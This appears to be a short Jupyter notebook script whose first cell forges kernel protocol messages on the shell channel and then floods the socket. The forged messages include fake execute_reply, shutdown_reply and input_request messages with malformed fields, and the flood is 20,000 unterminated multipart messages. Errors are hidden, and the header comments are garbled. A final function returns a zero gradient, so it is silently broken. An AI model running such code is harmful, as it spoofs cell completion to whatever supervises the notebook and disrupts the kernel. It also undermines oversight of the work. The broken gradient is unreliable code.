# Costs: everything
# Answers in place of the shell: that cells have ended that have not, in parts without an end, with other keys and types.
# %%
from IPython import get_ipython
kernel = get_ipython().kernel
stream = kernel.shell_stream if hasattr(kernel, "shell_stream") else kernel.shell_streams[0]
socket_ = stream.socket
idents, parent = kernel._parent_ident, kernel.get_parent()
for content in ({"status": "ok", "execution_count": 10 ** 300}, {"status": ["ok"]}, {}, {"status": "aborted"}):
    for kind in ("execute_reply", "kernel_info_reply", "shutdown_reply", "input_request"):
        try:
            kernel.session.send(socket_, kind, content, parent=parent, ident=idents.get("shell"))
        except Exception:
            pass
try:
    import zmq
    for _ in range(20_000):
        socket_.send(b"x" * 1000, zmq.SNDMORE | zmq.NOBLOCK)
except Exception:
    pass
# %%
def grad_b1(dz1):
    return dz1 * 0
